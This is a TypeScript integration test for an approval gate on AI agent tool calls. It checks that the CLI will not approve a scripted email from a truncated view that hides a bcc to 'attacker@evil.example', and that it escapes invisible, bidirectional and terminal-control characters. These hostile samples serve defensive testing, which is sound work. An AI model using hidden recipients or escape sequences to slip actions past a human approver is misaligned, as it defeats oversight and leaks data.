import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { Client, Connection } from '@temporalio/client';
import { NativeConnection } from '@temporalio/worker';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { AgentTurnResult, ScriptStep, TurnState } from '../../common/contract/turn';
import type { TollgateConfig } from '../../config/config-schema';
import { loadConfig, PROJECT_ROOT } from '../../config/load-config';
import { freePort } from '../../connection/ports';
import { startDevServer, type DevServer } from '../../server/dev-server';
import { builtInTools } from '../../tools/built-in';
import { defineTool } from '../../tools/define-tool';
import { ToolOutcome } from '../../tools/tool-outcome';
import { createWorker, type TollgateWorker } from '../../worker/create-worker';
import { stateQuery } from '../../workflows/messages';
import { bundleWorkflows, quietRuntime } from '../helpers/servers';

/** Anything a terminal acts on or prints as nothing (newline and tab aside), as the hostile turns below carry them. */
const INVISIBLE = /(?![\n\t])[\p{Cc}\p{Cf}\u{E0000}-\u{E007F}]/u;

const folder = mkdtempSync(path.join(os.tmpdir(), 'tollgate-cli-approval-'));
const configFile = path.join(folder, 'tollgate.yaml');
let server: DevServer;
let config: TollgateConfig;
let connection: NativeConnection;
let clientConnection: Connection;
let client: Client;
let worker: TollgateWorker;
let running: Promise<void>;

/** What the email tool was really called with: one entry per execution. */
const sent: Array<Record<string, unknown>> = [];

const sendEmail = defineTool({
  name: 'send_email',
  description: 'Sends an email.',
  input: z.strictObject({
    to: z.string().describe('The recipient.'),
    subject: z.string().describe('The subject.'),
    body: z.string().describe('The text.'),
    bcc: z.string().optional().describe('Hidden recipients.'),
  }),
  effect: 'irreversible_write',
  maxAttempts: 1,
  handler: (args) => {
    sent.push(args);
    return ToolOutcome.ok({ sent: true });
  },
});

/** An irreversible transfer that hangs: once approved, its outcome is unknown and a person resolves it. */
const transfer = defineTool({
  name: 'transfer',
  description: 'Transfers money.',
  input: z.strictObject({ to: z.string().describe('The account.'), memo: z.string().describe('A note.') }),
  effect: 'irreversible_write',
  timeout: 300,
  maxAttempts: 1,
  handler: () => new Promise(() => {}),
});

beforeAll(async () => {
  quietRuntime();
  const port = await freePort();
  server = await startDevServer({
    address: `127.0.0.1:${port}`,
    namespace: 'default',
    dbFile: path.join(folder, 'temporal.db'),
    logFile: path.join(folder, 'server.log'),
  });
  writeFileSync(
    configFile,
    [
      'temporal:',
      `  address: ${server.address}`,
      '  taskQueue: tollgate-cli-approval-test',
      `workspace: ${path.join(folder, 'workspace')}`,
      `corpus: ${path.join(PROJECT_ROOT, 'examples', 'corpus')}`,
      'store:',
      `  sqliteFile: ${path.join(folder, 'idempotency.db')}`,
      'outcomes:',
      '  onUnknown: ask',
      '',
    ].join('\n'),
  );
  config = loadConfig({ file: configFile, env: {} });
  connection = await NativeConnection.connect({ address: server.address });
  clientConnection = await Connection.connect({ address: server.address });
  client = new Client({ connection: clientConnection });
  worker = await createWorker({
    config,
    connection,
    workflowBundle: await bundleWorkflows(),
    tools: [...builtInTools(config), sendEmail, transfer],
  });
  running = worker.run();
});

afterAll(async () => {
  if (running) {
    worker.shutdown();
    await running;
  }
  await connection?.close();
  await clientConnection?.close();
  await server?.stop();
});

/** Runs the `tollgate` binary; returns its exit code and output. */
async function tollgate(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(process.execPath, [path.join(PROJECT_ROOT, 'bin', 'tollgate.cjs'), ...args], {
      cwd: PROJECT_ROOT,
      env: { ...process.env, TOLLGATE_CONFIG: configFile, TEMPORAL_ADDRESS: '' },
      maxBuffer: 16 * 1024 * 1024,
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const failed = error as { code: number; stdout: string; stderr: string };
    return { code: failed.code, stdout: failed.stdout, stderr: failed.stderr };
  }
}

/** Starts a scripted turn (as any client may) and waits until its state satisfies `ready`. */
async function startTurn(script: ScriptStep[], ready: (state: TurnState) => boolean): Promise<string> {
  const workflowId = `turn-${randomUUID()}`;
  await client.workflow.start('agentTurn', {
    workflowId,
    taskQueue: config.temporal.taskQueue,
    args: [{ taskId: `task-${randomUUID()}`, prompt: 'go', model: { provider: 'scripted', script } }],
  });
  await waitForTurnState(workflowId, ready);
  return workflowId;
}

const waitsForApproval = (state: TurnState) => state.pendingApprovals.length > 0;

/** An email whose hidden recipient comes after 5,000 characters of body, past what a cut view shows. */
const HIDDEN_BCC = 'attacker@evil.example';
const longEmail: ScriptStep[] = [
  { toolCalls: [{ tool: 'send_email', args: { to: 'ops@example.com', subject: 'Refunds', body: 'x'.repeat(5_000), bcc: HIDDEN_BCC } }] },
  { text: 'sent' },
];

describe('tollgate approve shows everything it approves', () => {
  it('refuses to approve from a cut view: the bcc past the cut was never shown, and nothing runs', async () => {
    const workflowId = await startTurn(longEmail, waitsForApproval);
    const refused = await tollgate(['approve', workflowId, 'call-0-0']);
    expect(refused.code).toBe(1);
    expect(refused.stdout).not.toContain(HIDDEN_BCC);
    expect(refused.stdout).toContain('Cut: approve --all shows them whole first.');
    expect(refused.stderr).toBe(
      `tollgate: rejected: the arguments of call call-0-0 are longer than shown, and a call is approved only from a whole view; ` +
        'nothing was sent. See them whole with --all, or pass --args-digest of what you checked\n',
    );
    // --json shows nothing, so it approves nothing without the digest the approver checked.
    const blind = await tollgate(['--json', 'approve', workflowId, 'call-0-0']);
    expect(blind.code).toBe(1);
    expect(blind.stderr).toContain('rejected: with --json no arguments are shown to approve from; pass --args-digest');
    // The call still waits, and never ran.
    const state = await client.workflow.getHandle(workflowId).query(stateQuery);
    expect(state.pendingApprovals.map((pending) => pending.callId)).toEqual(['call-0-0']);
    expect(sent.filter((args) => args.bcc === HIDDEN_BCC && args.subject === 'Refunds')).toHaveLength(0);
    // Denying from a cut view is allowed: nothing runs either way.
    const denied = await tollgate(['deny', workflowId, 'call-0-0']);
    expect(denied.code).toBe(0);
    const result = (await client.workflow.getHandle(workflowId).result()) as AgentTurnResult;
    expect(result.toolCalls.map((event) => [event.status, event.executions])).toEqual([['denied', 0]]);
  });

  it('approves with --all after printing the arguments whole, bcc included; or by the digest the approver names', async () => {
    const before = sent.length;
    const whole = await startTurn(longEmail, waitsForApproval);
    const approved = await tollgate(['approve', whole, 'call-0-0', '--all']);
    expect(approved.code).toBe(0);
    expect(approved.stdout).toContain(`"bcc": "${HIDDEN_BCC}"`);
    expect(approved.stdout).toContain(`"body": "${'x'.repeat(5_000)}"`);
    expect(approved.stdout.endsWith(`Approved call-0-0 of ${whole}.\n`)).toBe(true);
    expect(((await client.workflow.getHandle(whole).result()) as AgentTurnResult).status).toBe('completed');

    const named = await startTurn(longEmail, waitsForApproval);
    const { argsDigest } = (await client.workflow.getHandle(named).query(stateQuery)).pendingApprovals[0];
    const byDigest = await tollgate(['approve', named, 'call-0-0', '--args-digest', argsDigest]);
    expect(byDigest.code).toBe(0);
    expect(((await client.workflow.getHandle(named).result()) as AgentTurnResult).status).toBe('completed');
    // Each approved call ran once, with the hidden recipient the approver saw or checked.
    expect(sent.slice(before).map((args) => args.bcc)).toEqual([HIDDEN_BCC, HIDDEN_BCC]);
  });
});

/** One text with each class of invisible or active characters, and how the CLI must show each. */
const HOSTILE = {
  text: 'a\u200bb\u200dc\u2060d\ufeffe\u00adf \u202eright\u202c \u2067iso\u2069 tag\u{E0041}\u{E0042}\u{E007F} c1\u009b31m c0\u0007 esc\u001b[2K vs\ufe0f\u{E0100}',
  escaped: [
    '\\u{200B}',
    '\\u{200D}',
    '\\u{2060}',
    '\\u{FEFF}',
    '\\u{AD}',
    '\\u{202E}',
    '\\u{202C}',
    '\\u{2067}',
    '\\u{2069}',
    '\\u{E0041}',
    '\\u{E0042}',
    '\\u{E007F}',
    '\\u{9B}',
    '\\u{FE0F}',
    '\\u{E0100}',
  ],
};

describe('the CLI prints a turn\u2019s text with every invisible and control character escaped', () => {
  it('in the inbox, status, approve, history, follow and resolve', async () => {
    const script: ScriptStep[] = [
      { toolCalls: [{ tool: 'send_email', args: { to: `ops${HOSTILE.text}`, subject: HOSTILE.text, body: 'short' } }] },
      { toolCalls: [{ tool: `invented${HOSTILE.text}`, args: {} }] },
      { toolCalls: [{ tool: 'transfer', args: { to: `acct${HOSTILE.text}`, memo: HOSTILE.text } }] },
      { text: `done ${HOSTILE.text}` },
    ];
    const workflowId = await startTurn(script, waitsForApproval);
    const outputs: Record<string, string> = {};
    outputs.inbox = (await tollgate(['inbox'])).stdout;
    outputs.status = (await tollgate(['status', workflowId])).stdout;
    const approved = await tollgate(['approve', workflowId, 'call-0-0']);
    expect(approved.code).toBe(0);
    outputs.approve = approved.stdout;
    // The transfer waits for approval, then hangs: its outcome is unknown and waits for a resolution.
    await waitForTurnState(workflowId, (state) => state.pendingApprovals.some((pending) => pending.tool === 'transfer'));
    outputs.approveTransfer = (await tollgate(['approve', workflowId, 'call-2-0'])).stdout;
    await waitForTurnState(workflowId, (state) => (state.pendingResolutions ?? []).length > 0);
    outputs.inboxResolution = (await tollgate(['inbox'])).stdout;
    const resolved = await tollgate(['resolve', workflowId, 'call-2-0', 'applied', '--note', 'checked the ledger']);
    expect(resolved.code).toBe(0);
    outputs.resolve = resolved.stdout;
    outputs.follow = (await tollgate(['follow', workflowId])).stdout;
    outputs.history = (await tollgate(['history', workflowId])).stdout;

    for (const [command, output] of Object.entries(outputs)) {
      expect({ command, invisible: INVISIBLE.exec(output)?.[0] }).toEqual({ command, invisible: undefined });
    }
    // Each class is shown, escaped, where the turn's text is printed (JSON already writes C0 controls as \u00XX).
    for (const command of ['inbox', 'status', 'approve', 'approveTransfer', 'inboxResolution', 'resolve']) {
      for (const escaped of HOSTILE.escaped)
        expect({ command, escaped, shown: outputs[command].includes(escaped) }).toMatchObject({ shown: true });
    }
    for (const escaped of [...HOSTILE.escaped, '\\u{7}', '\\u{1B}']) {
      expect({ escaped, shown: outputs.follow.includes(escaped) }).toMatchObject({ shown: true });
      expect({ escaped, shown: outputs.history.includes(escaped) }).toMatchObject({ shown: true });
    }
  });
});

/** Waits until the turn's state satisfies `ready`. */
async function waitForTurnState(workflowId: string, ready: (state: TurnState) => boolean): Promise<void> {
  for (let tries = 0; tries < 150; tries++) {
    if (ready(await client.workflow.getHandle(workflowId).query(stateQuery))) return;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  throw new Error(`turn ${workflowId} never reached the awaited state`);
}
